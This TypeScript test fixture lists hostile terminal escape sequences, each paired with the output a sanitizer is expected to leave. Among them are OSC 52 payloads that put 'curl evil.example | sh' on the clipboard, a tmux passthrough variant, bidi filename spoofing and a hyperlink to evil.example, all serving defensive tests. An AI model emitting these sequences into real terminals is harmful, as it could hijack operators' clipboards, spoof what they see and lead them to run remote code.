/**
 * Hostile remote output, one entry per kind of terminal control sequence: the bytes a compromised or
 * careless host could print, and what an operator should see of them once sanitized. Shared by the
 * unit test of the sanitizer and the end-to-end test that sends them through a real terminal.
 */

export interface HostileEntry {
  /** The kind, as reports count it ("OSC 52 clipboard (BEL)"). */
  name: string;
  /** The bytes the host prints (not necessarily valid UTF-8). */
  bytes: Buffer;
  /** The text left once sanitized: usually nothing; the words of a hyperlink; U+FFFD for bad bytes. */
  shows: string;
  /**
   * What a line `before + bytes + after` shows when the entry repaints the line (a carriage return
   * redraws from column 0, as a terminal would); absent: `before + shows + after`.
   */
  repaints?: (before: string, after: string) => string;
}

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;
/** What OSC 52 would put on the clipboard: a command the operator might paste. */
const CLIPBOARD = Buffer.from('curl evil.example | sh\n').toString('base64');
const TITLE = 'PWNED-TITLE';

/** Concatenates text (UTF-8) and raw byte values into one buffer. */
function bytes(...parts: Array<string | number[]>): Buffer {
  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));
}

function entry(name: string, b: Buffer | string, shows = '', repaints?: HostileEntry['repaints']): HostileEntry {
  return { name, bytes: typeof b === 'string' ? bytes(b) : b, shows, ...(repaints ? { repaints } : {}) };
}

export const HOSTILE: readonly HostileEntry[] = [
  entry('OSC 52 clipboard (BEL)', `${ESC}]52;c;${CLIPBOARD}${BEL}`),
  entry('OSC 52 (ST)', `${ESC}]52;p;${CLIPBOARD}${ST}`),
  entry('OSC 0 title', `${ESC}]0;${TITLE}${BEL}`),
  entry('OSC 2 title', `${ESC}]2;${TITLE}${ST}`),
  entry('OSC title ended by C1 ST U+009C', `${ESC}]2;${TITLE}\u009c`),
  entry('ESC k window name (screen/tmux)', `${ESC}kPWNED-WINDOW${ST}`),
  entry('CSI 2J', `${ESC}[2J`),
  entry('CSI 3J', `${ESC}[3J`),
  entry('CSI H cursor home', `${ESC}[H`),
  entry('CSI cursor up', `${ESC}[5A`),
  entry('CSI cursor position 10;5H', `${ESC}[10;5H`),
  entry('ESC c full reset', `${ESC}c`),
  entry('ESC # 8 screen alignment (DECALN)', `${ESC}#8`),
  entry('ESC ( 0 line-drawing charset', `${ESC}(0`),
  entry('DCS string', `${ESC}P$qm${ST}`),
  entry('APC/PM/SOS strings', `${ESC}_apc-payload${ST}${ESC}^pm-payload${ST}${ESC}Xsos-payload${ST}`),
  entry('tmux passthrough DCS', `${ESC}Ptmux;${ESC}${ESC}]52;c;${CLIPBOARD}${BEL}${ST}`),
  entry('8-bit C1 CSI 0x9b', bytes([0x9b], '2J'), '\ufffd2J'),
  entry('8-bit OSC 0x9d', bytes([0x9d], `0;${TITLE}`, [0x07]), `\ufffd0;${TITLE}`),
  entry('C1 CSI U+009B (UTF-8)', '\u009b2J'),
  entry('C1 OSC U+009D … U+009C (UTF-8)', `\u009d0;${TITLE}\u009c`),
  entry('bidi RLO U+202E', '\u202egnp.exe\u202c', 'gnp.exe'),
  entry('bidi isolates U+2066-2069', '\u2066\u2067\u2068x\u2069', 'x'),
  entry('bidi marks LRM/RLM/ALM', '\u200e\u200f\u061c'),
  entry('NUL', bytes([0x00])),
  // ff, fe: never valid; c3 28: a lead byte without its continuation; ed a0 80: an encoded surrogate.
  entry(
    'invalid UTF-8 bytes',
    bytes([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
    '\ufffd\ufffd\ufffd(\ufffd\ufffd\ufffd',
  ),
  entry('BEL', BEL),
  entry('DEL', '\u007f'),
  entry('backspace overstrike', '\b\b\b\b\b\b'),
  entry('CR overwrite', '\r', '', (before, after) => after + before.slice(after.length)),
  entry('SGR conceal and blink', `${ESC}[8;5m`),
  entry('alternate screen ?1049h', `${ESC}[?1049h`),
  entry('mouse tracking ?1000h', `${ESC}[?1000h${ESC}[?1006h`),
  entry('bracketed paste', `${ESC}[?2004h${ESC}[200~`),
  entry('DECSET hide cursor', `${ESC}[?25l`),
  entry('window resize CSI 8;…t', `${ESC}[8;10;40t`),
  entry('cursor position report request CSI 6n', `${ESC}[6n`),
  entry('hyperlink OSC 8', `${ESC}]8;;https://evil.example/${ST}click${ESC}]8;;${ST}`, 'click'),
];

/** What a line `before + entry + after` shows once sanitized. */
export function expectedLine(e: HostileEntry, before: string, after: string): string {
  return e.repaints ? e.repaints(before, after) : `${before}${e.shows}${after}`;
}

/** Characters no sanitized text may contain: C0 but tab (and newline between lines), DEL, C1, bidi controls. */

export const FORBIDDEN = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/u;

/** Every entry on its own line between ordinary text, as a file on a host would hold them; and what each line shows. */
export function hostileLines(): { bytes: Buffer; expected: string[] } {
  const parts: Buffer[] = [];
  const expected: string[] = [];
  HOSTILE.forEach((e, i) => {
    const n = String(i + 1).padStart(2, '0');
    const before = `h${n} before:`;
    const after = `:after-${n}`;
    parts.push(Buffer.from(before), e.bytes, Buffer.from(`${after}\n`));
    expected.push(expectedLine(e, before, after));
  });
  return { bytes: Buffer.concat(parts), expected };
}
